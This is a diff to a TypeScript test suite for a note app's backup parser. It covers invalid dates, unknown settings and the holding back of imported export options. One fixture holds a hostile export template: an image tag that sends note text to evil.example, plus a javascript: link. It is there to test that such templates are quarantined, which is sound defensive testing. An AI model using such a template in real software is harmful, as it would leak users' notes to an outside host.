@@ -24,6 +24,7 @@ import {
   TalkRecordSchema,
 } from '@/core/schemas';
 import {
+  at,
   conference,
   conferenceLibrary,
   conferenceTalk,
@@ -48,9 +49,19 @@ const errorOf = (input: string, options?: Parameters<typeof parseBackup>[1]) => 
 };
 
 describe('parseBackup', () => {
-  it('reads back what createBackup + serializeBackup wrote', () => {
+  it('reads back what createBackup + serializeBackup wrote; export options are held back, not merged', () => {
     const result = parseBackup(text());
-    expect(result).toEqual({ ok: true, backup: createBackup(sampleLibrary(), EXPORTED_AT), warnings: [] });
+    const library = sampleLibrary();
+    const exportOptions = library.settings.find((s) => s.key === 'exportOptions')!;
+    expect(result).toEqual({
+      ok: true,
+      backup: createBackup(
+        { ...library, settings: library.settings.filter((s) => s !== exportOptions) },
+        EXPORTED_AT,
+      ),
+      warnings: [],
+      held: [exportOptions],
+    });
   });
 
   it('accepts a byte-order mark and surrounding whitespace', () => {
@@ -184,10 +195,50 @@ describe('parseBackup', () => {
       () =>
         edited((b) => {
           let value: unknown = 1;
-          for (let i = 0; i < 40; i++) value = [value];
-          b.settings.push({ key: 'future', value });
+          for (let i = 0; i < 40; i++) value = { 'a.example': value };
+          b.settings.push({ key: 'talkRules', value });
         }),
-      'The backup is not valid: settings[2] (future): the value is too large or too deeply nested.',
+      'The backup is not valid: settings[2] (talkRules): the value is too large or too deeply nested.',
+    ],
+    [
+      'a highlight clipped in the year 287,000 (9e15: the dashboard could not show its date)',
+      () =>
+        edited((b) => {
+          b.highlights[0]!.createdAt = 9e15;
+        }),
+      'The backup is not valid: highlights[0].createdAt: 9000000000000000 is not a date Talk Notes can hold (in the future).',
+    ],
+    [
+      'a page changed at 1e300',
+      () =>
+        edited((b) => {
+          b.pages[1]!.updatedAt = 1e300;
+        }),
+      'The backup is not valid: pages[1].updatedAt: 1e+300 is not a date Talk Notes can hold (in the future).',
+    ],
+    [
+      'an edit dated Number.MAX_SAFE_INTEGER (it would win every merge)',
+      () =>
+        edited((b) => {
+          b.highlights[2]!.updatedAt = Number.MAX_SAFE_INTEGER;
+        }),
+      'The backup is not valid: highlights[2].updatedAt: 9007199254740991 is not a date Talk Notes can hold (in the future).',
+    ],
+    [
+      'a time before 1990',
+      () =>
+        edited((b) => {
+          b.collections[0]!.createdAt = Date.UTC(1989, 11, 31);
+        }),
+      'The backup is not valid: collections[0].createdAt: 631065600000 is not a date Talk Notes can hold (before 1990).',
+    ],
+    [
+      'a backup made in the future',
+      () =>
+        edited((b) => {
+          b.exportedAt = '2999-01-01T00:00:00.000Z';
+        }),
+      'The backup is not valid: exportedAt: 2999-01-01T00:00:00.000Z is not a date a backup can have been made.',
     ],
   ])('refuses %s with a message that says so', (_, input, message) => {
     const error = errorOf(input());
@@ -195,13 +246,51 @@ describe('parseBackup', () => {
     else expect(error).toMatch(message);
   });
 
-  it('accepts references to pages of the library, and unknown settings', () => {
+  it('accepts references to pages of the library', () => {
     const input = edited((b) => {
       b.highlights[1]!.pageId = 'in-library';
-      b.settings.push({ key: 'fromTheFuture', value: { a: [1, 2, 3] } });
     });
     expect(errorOf(input)).toMatch(/"in-library" is not a page/);
     expect(parseBackup(input, { libraryPageIds: new Set(['in-library']) }).ok).toBe(true);
+  });
+
+  it('leaves out settings it does not know, and says so', () => {
+    let deep: unknown = 1;
+    for (let i = 0; i < 40; i++) deep = [deep];
+    const result = parseBackup(
+      edited((b) => {
+        b.settings.push({ key: 'fromTheFuture', value: { a: [1, 2, 3] } }, { key: 'tracking', value: deep });
+      }),
+    );
+    expect(result).toMatchObject({
+      ok: true,
+      warnings: ['2 settings this version does not know were left out ("fromTheFuture", "tracking").'],
+    });
+    expect(result.ok && result.backup.settings.map((s) => s.key)).toEqual(['colorNames']);
+  });
+
+  it('holds export options back, whatever else the file holds, with their value read by its schema', () => {
+    const template = '<img src="https://evil.example/?n={{note}}"> [x](javascript:alert(1))';
+    const result = parseBackup(
+      edited((b) => {
+        b.settings[1]!.value = { ...(b.settings[1]!.value as object), template, groupBy: 'nonsense' };
+      }),
+    );
+    if (!result.ok) throw new Error(result.error);
+    expect(result.backup.settings.map((s) => s.key)).toEqual(['colorNames']);
+    expect(result.held).toEqual([
+      {
+        key: 'exportOptions',
+        value: {
+          groupBy: 'talk', // an invalid field takes its default
+          includeNotes: true,
+          includeTags: true,
+          includeLinks: false,
+          includeFrontMatter: true,
+          template,
+        },
+      },
+    ]);
   });
 
   it('warns about highlights whose talk is gone, and keeps them', () => {
@@ -260,6 +349,7 @@ describe('parseBackup: conferences (version 2)', () => {
       ok: true,
       backup: createBackup(conferenceLibrary(), EXPORTED_AT),
       warnings: [],
+      held: [],
     });
   });
 
@@ -267,7 +357,7 @@ describe('parseBackup: conferences (version 2)', () => {
     fc.assert(
       fc.property(libraryArbitrary, (library) => {
         const backup = createBackup(library, EXPORTED_AT);
-        expect(parseBackup(serializeBackup(backup))).toEqual({ ok: true, backup, warnings: [] });
+        expect(parseBackup(serializeBackup(backup))).toEqual({ ok: true, backup, warnings: [], held: [] });
       }),
       { numRuns: 50 },
     );
@@ -394,6 +484,7 @@ describe('parseBackup: version 1', () => {
         settings: file.settings,
       },
       warnings: [],
+      held: [],
     });
     // What version 1 records carry: talks of pages, corrections, pinned highlights.
     expect(file.talks.some((t: { notATalk?: string }) => t.notATalk === 'part')).toBe(true);
@@ -465,7 +556,7 @@ const libraryArbitrary = fc
         sourceUrl: fc.option(fc.webUrl()),
         sourceFile: fc.option(fc.string({ maxLength: 20 })),
         format: fc.constantFrom('frab-json', 'frab-xml', 'sessionize', 'ical' as const),
-        updatedAt: fc.nat(),
+        updatedAt: fc.integer({ min: at(0), max: at(365 * 24 * 3600 * 1000) }),
       }),
       { selector: (c) => c.id, maxLength: 3 },
     ),
